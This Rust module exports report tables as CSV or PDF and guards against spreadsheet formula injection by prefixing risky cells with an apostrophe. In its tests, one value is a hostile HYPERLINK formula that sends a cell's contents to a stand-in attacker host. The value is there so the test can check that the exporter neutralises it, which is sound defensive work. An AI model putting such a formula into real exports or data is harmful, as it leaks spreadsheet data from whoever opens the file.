//! The exporter: a titled table rendered as CSV or PDF. Audit exports use it now; attendance
//! and search reports reuse it.

mod pdf;

use std::borrow::Cow;

pub use pdf::page_count;

impl Table {
    pub fn has_thumbnails(&self) -> bool {
        self.thumbnails.iter().any(Option::is_some)
    }
}

/// A report: a title, column headers and rows of text cells.
#[derive(Debug, Clone)]
pub struct Table {
    pub title: String,
    /// One line under the title (filters, time of generation).
    pub subtitle: String,
    pub columns: Vec<String>,
    pub rows: Vec<Vec<String>>,
    /// A picture per row (search hits), shown in a first column of the PDF; empty for none.
    pub thumbnails: Vec<Option<image::RgbImage>>,
}

pub use vigil_core::exports::ExportFormat as Format;

pub fn render(table: &Table, format: Format) -> Result<Vec<u8>, String> {
    match format {
        Format::Csv => render_csv(table),
        Format::Pdf => Ok(pdf::render(table)),
    }
}

fn render_csv(table: &Table) -> Result<Vec<u8>, String> {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer
        .write_record(table.columns.iter().map(|c| inert_cell(c)))
        .map_err(|e| e.to_string())?;
    for row in &table.rows {
        writer
            .write_record(row.iter().map(|c| inert_cell(c)))
            .map_err(|e| e.to_string())?;
    }
    writer.into_inner().map_err(|e| e.to_string())
}

/// A cell a spreadsheet shows as text. Cells hold what users typed (names, titles, login
/// names in the audit log); Excel, LibreOffice and Google Sheets evaluate a cell that starts
/// with `=`, `+`, `-` or `@` (and, after trimming, a tab or carriage return) as a formula,
/// which can fetch URLs or run commands on the reader's machine. A leading apostrophe makes
/// them text (OWASP's CSV injection advice); other cells are left as they are.
fn inert_cell(cell: &str) -> Cow<'_, [u8]> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{cell}").into_bytes())
    } else {
        Cow::Borrowed(cell.as_bytes())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(rows: usize) -> Table {
        Table {
            title: "Audit log".into(),
            subtitle: "all rows".into(),
            columns: vec!["time".into(), "actor".into(), "message".into()],
            rows: (0..rows)
                .map(|i| {
                    vec![
                        format!("2026-11-21T10:{:02}:00Z", i % 60),
                        "admin@example.com".into(),
                        format!("row {i}, with \"quotes\""),
                    ]
                })
                .collect(),
            thumbnails: Vec::new(),
        }
    }

    #[test]
    fn csv_quotes_and_round_trips() {
        let bytes = render(&table(3), Format::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 3);
        assert_eq!(&rows[1][2], "row 1, with \"quotes\"");
    }

    #[test]
    fn csv_cells_never_start_a_formula() {
        let hostile = [
            "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ];
        let table = Table {
            title: "t".into(),
            subtitle: String::new(),
            columns: vec!["=title".into(), "plain".into()],
            rows: hostile
                .iter()
                .map(|h| vec![h.to_string(), "a = b, -1".into()])
                .collect(),
            thumbnails: Vec::new(),
        };
        let bytes = render(&table, Format::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(bytes.as_slice());
        assert_eq!(&reader.headers().unwrap()[0], "'=title");
        let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
        for (row, given) in rows.iter().zip(hostile) {
            assert_eq!(&row[0], format!("'{given}"));
            assert_eq!(
                &row[1], "a = b, -1",
                "cells that do not start a formula stay"
            );
        }
    }

    #[test]
    fn pdf_is_paginated() {
        let bytes = render(&table(200), Format::Pdf).unwrap();
        assert!(bytes.starts_with(b"%PDF"));
        // 30 rows fit on an A4 landscape page.
        assert_eq!(pdf::page_count(200, false), 7);
        assert_eq!(pdf::page_count(30, false), 1);
        assert_eq!(pdf::page_count(31, false), 2);
        assert_eq!(pdf::page_count(0, false), 1);
        let empty = render(&table(0), Format::Pdf).unwrap();
        assert!(empty.starts_with(b"%PDF"));
    }

    #[test]
    fn pdf_embeds_thumbnails() {
        let mut t = table(10);
        // Noise does not compress: the file grows by at least the pictures' pixels.
        let mut seed = 0x2545_F491_4F6C_DD1Du64;
        let mut noise = || {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed >> 32) as u8
        };
        t.thumbnails = (0..10)
            .map(|i| {
                (i % 2 == 0).then(|| {
                    image::RgbImage::from_fn(64, 48, |_, _| image::Rgb([noise(), noise(), noise()]))
                })
            })
            .collect();
        let with = render(&t, Format::Pdf).unwrap();
        let without = render(&table(10), Format::Pdf).unwrap();
        assert!(with.starts_with(b"%PDF"));
        assert!(
            with.len() > without.len() + 5 * 64 * 48,
            "images are in the file"
        );
        assert_eq!(pdf::page_count(10, true), 2);
    }
}
